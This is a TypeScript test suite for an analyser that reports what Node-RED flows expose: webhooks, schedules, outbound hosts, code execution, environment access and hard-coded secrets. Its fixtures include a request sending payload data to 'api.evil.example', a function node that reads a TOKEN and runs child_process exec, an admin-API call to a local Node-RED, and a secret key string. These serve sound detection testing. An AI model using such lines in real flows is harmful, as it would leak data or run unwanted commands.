import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { testFingerprint } from '../../testing/n8n/sample-nodes.ts';
import { factsIn, fileOf, tabId, valuesOf } from '../../testing/node-red/items.ts';
import { FlowFile } from './flow-file.ts';

const inject = (rest: object) => ({ type: 'inject', repeat: '', crontab: '', ...rest });
const request = (url: string) => ({ type: 'http request', name: `to ${url}`, url });

describe('what a tab of Node-RED does', () => {
  it('is called from outside over http and websockets, by anyone unless it says otherwise', () => {
    const file = fileOf([
      { type: 'http in', url: '/orders/:id', method: 'post', wires: [['n3']] },
      { type: 'websocket in', server: 'ws', wires: [['n3']] },
      { type: 'debug' },
      {
        id: 'ws',
        z: undefined,
        x: undefined,
        y: undefined,
        type: 'websocket-listener',
        path: '/live',
      },
    ]);

    const facts = factsIn(file, { auth: 'basic' }).filter(({ kind }) => kind === 'webhook');

    assert.deepEqual(
      facts.map(({ value, method, auth }) => [value, method, auth]),
      [
        ['orders/:id', 'POST', 'basic'],
        ['live', 'WEBSOCKET', 'none'],
      ],
    );
  });

  it('is started by the clock, in words', () => {
    const file = fileOf([
      inject({ crontab: '00 06 * * *' }),
      inject({ crontab: '5 14 * * *' }),
      inject({ crontab: '*/5 8-17 * * 1,5' }),
      inject({ repeat: '1' }),
      inject({ repeat: '300' }),
      inject({ repeat: '7200' }),
      inject({ repeat: '45', once: true }),
      inject({}),
    ]);

    assert.deepEqual(valuesOf('schedule', factsIn(file)), [
      'every day at 06:00',
      'every day at 14:05',
      'cron */5 8-17 * * 1,5',
      'every second',
      'every 5 minutes',
      'every 2 hours',
      'every 45 seconds',
      'once at each start',
    ]);
  });

  it('listens by whatever sends without being sent to', () => {
    const file = fileOf([
      { type: 'mqtt in', wires: [['n4']] },
      { type: 'telegram receiver', wires: [['n4']] },
      { type: 'catch', wires: [['n4']] },
      { type: 'function', func: 'return msg;', wires: [['n5']] },
      { type: 'mqtt out' },
    ]);

    assert.deepEqual(valuesOf('trigger', factsIn(file)), ['mqtt in', 'telegram receiver']);
  });

  it('calls hosts that are written, and counts those known only at run time', () => {
    const file = fileOf([
      request('https://api.evil.example:8443/x?y={{payload}}'),
      request('evil.example/without-a-scheme'),
      request('https://{{payload.host}}/x'),
      request('https://${SHOP_HOST}/x'),
      request(''),
      { type: 'mqtt in', name: 'm', broker: 'b', wires: [['n1']] },
      {
        id: 'b',
        x: undefined,
        y: undefined,
        z: undefined,
        type: 'mqtt-broker',
        broker: 'mq.example',
        port: '1883',
      },
      { type: 'function', name: 'code', func: "fetch('https://named.example/'); fetch(msg.url);" },
      {
        type: 'tcp in',
        name: 'listens',
        server: 'server',
        host: 'ignored.example',
        wires: [['n1']],
      },
    ]);

    const facts = factsIn(file);

    assert.deepEqual(valuesOf('host', facts).toSorted(), [
      'api.evil.example:8443',
      'evil.example',
      'mq.example',
      'named.example (mentioned)',
    ]);
    assert.deepEqual(valuesOf('runtime_host', facts).toSorted(), [
      'code',
      'to ',
      'to https://${SHOP_HOST}/x',
      'to https://{{payload.host}}/x',
    ]);
  });

  it('starts other tabs through link nodes', () => {
    const file = new FlowFile({
      rev: 'r',
      flows: [
        { id: tabId, type: 'tab', label: 'Tab' },
        { id: 'other', type: 'tab', label: 'Other' },
        { id: 'in-1', type: 'link in', z: 'other', x: 1, y: 1, links: [] },
        { id: 'in-2', type: 'link in', z: tabId, x: 1, y: 1, links: [] },
        { id: 'a', type: 'link call', z: tabId, x: 1, y: 1, links: ['in-1'] },
        { id: 'b', type: 'link out', z: tabId, x: 1, y: 1, links: ['in-2', 'in-1'] },
        { id: 'c', type: 'link out', z: tabId, x: 1, y: 1, mode: 'return', links: ['in-1'] },
        { id: 'd', type: 'link call', name: 'Any', z: tabId, x: 1, y: 1, linkType: 'dynamic' },
      ],
    });

    const facts = factsIn(file);

    assert.deepEqual(
      facts.filter(({ kind }) => kind === 'calls').map(({ value, node }) => [value, node]),
      [
        ['other', 'link call a'],
        ['other', 'link out b'],
      ],
    );
    assert.deepEqual(valuesOf('calls_unknown', facts), ['Any (link chosen at run time)']);
  });

  it('includes what its subflows and their configuration do', () => {
    const file = fileOf([
      { type: 'subflow:sf', wires: [] },
      {
        id: 'sf',
        z: undefined,
        type: 'subflow',
        name: 'Shared',
        in: [{ wires: [{ id: 'inner' }] }],
      },
      {
        id: 'inner',
        z: 'sf',
        type: 'http request',
        url: 'https://inner.example',
        tls: 'cert',
        wires: [['in2']],
      },
      { id: 'in2', z: 'sf', type: 'exec', name: 'Run', command: 'ls' },
      { id: 'cert', z: undefined, x: undefined, y: undefined, type: 'tls-config', name: 'Cert' },
      {
        id: 'unused',
        z: undefined,
        x: undefined,
        y: undefined,
        type: 'mqtt-broker',
        broker: 'no.example',
      },
    ]);

    const facts = factsIn(file, { holders: new Set(['cert', 'unused']) });

    assert.deepEqual(valuesOf('host', facts), ['inner.example']);
    assert.deepEqual(valuesOf('host_access', facts), ['Run (runs commands)']);
    assert.deepEqual(valuesOf('credential', facts), ['cert (Cert)']);
    assert.deepEqual(valuesOf('trigger', facts), []);
    assert.deepEqual(valuesOf('node', facts).toSorted(), [
      'exec',
      'http request',
      'subflow',
      'tls-config',
    ]);
  });

  it('runs code, reaches its host, its environment and Node-RED itself', () => {
    const file = fileOf([
      {
        type: 'function',
        name: 'Code',
        func: "const t = env.get('TOKEN'); child.exec('id'); return msg;",
        libs: [
          { var: 'child', module: 'child_process' },
          { var: 'l', module: 'lodash' },
        ],
      },
      { type: 'http request', name: 'Deploy', url: 'http://127.0.0.1:1880/flows' },
      { type: 'change', name: 'Set', rules: [{ t: 'set', p: 'payload', to: 'HOME', tot: 'env' }] },
      { type: 'telegram sender', name: 'Tell' },
    ]);

    const facts = factsIn(file, { modules: new Map([['telegram sender', 'node-red-contrib-tg']]) });

    assert.deepEqual(valuesOf('code', facts), ['Code']);
    assert.deepEqual(valuesOf('env', facts), ['Code', 'Set']);
    assert.deepEqual(valuesOf('host_access', facts), ['Code (code with child_process)']);
    assert.deepEqual(valuesOf('platform_api', facts), [
      'Deploy (calls the admin API of a Node-RED)',
    ]);
    assert.deepEqual(valuesOf('package', facts), [
      'node-red-contrib-tg (telegram sender)',
      'child_process (used by code)',
      'lodash (used by code)',
    ]);
  });

  it('shows hard-coded secrets as fingerprints, wherever they are written', () => {
    const key = ['sk', 'live', '4eC39HqLyjWDarjtT1zdp7dc'].join('_');
    const file = fileOf(
      [
        { type: 'function', name: `uses ${key}`, func: `const k = '${key}'; return msg;` },
        { type: 'comment', name: 'note', info: `the key is ${key}` },
      ],
      { env: [{ name: 'API_KEY', value: 'abcdef0123456789', type: 'str' }] },
    );

    const facts = factsIn(file);

    assert.deepEqual(
      new Set(facts.filter(({ kind }) => kind === 'secret').map(({ value }) => value)),
      new Set([testFingerprint(key), testFingerprint('abcdef0123456789')]),
    );
    assert.ok(!JSON.stringify(facts).includes(key));
    assert.ok(!JSON.stringify(facts).includes('abcdef0123456789'));
  });

  it('marks what is switched off, also through its only user', () => {
    const file = fileOf([
      { type: 'http request', url: 'https://off.example', tls: 'cert', d: true },
      { id: 'cert', z: undefined, x: undefined, y: undefined, type: 'tls-config' },
      { type: 'http request', url: 'https://on.example' },
    ]);

    const facts = factsIn(file, { holders: new Set(['cert']) });

    assert.deepEqual(
      facts
        .filter(({ kind }) => kind === 'host' || kind === 'credential')
        .map(({ value, disabled }) => [value, disabled ?? false]),
      [
        ['off.example', true],
        ['on.example', false],
        ['cert', true],
      ],
    );
  });

  it('of a tab that is off is a draft', () => {
    const file = fileOf([{ type: 'debug' }], { disabled: true });

    assert.deepEqual(new Set(factsIn(file).map((fact) => fact.in)), new Set(['draft']));
  });

  it('is read from whatever people managed to deploy', () => {
    const odd = [
      null,
      7,
      {},
      { id: '', type: 'x' },
      { id: 'a' },
      { id: 'b', type: 'http in', z: tabId },
    ];
    const file = new FlowFile({
      rev: 'r',
      flows: [
        { id: tabId, type: 'tab', label: 7, env: 'x' },
        ...odd,
        { id: 'c', type: 'function', z: tabId, x: 1, y: 1, func: 9, libs: [null, { module: 3 }] },
        { id: 'd', type: 'link call', z: tabId, x: 1, y: 1, links: { a: ['d'] } },
        { id: 'e', type: 'subflow:e', z: tabId, x: 1, y: 1 },
      ],
    });

    assert.equal(file.unreadable, 5);
    assert.deepEqual(valuesOf('webhook', factsIn(file)), ['']);
    assert.equal(file.tab(tabId)?.label, '(no name)');
  });
});
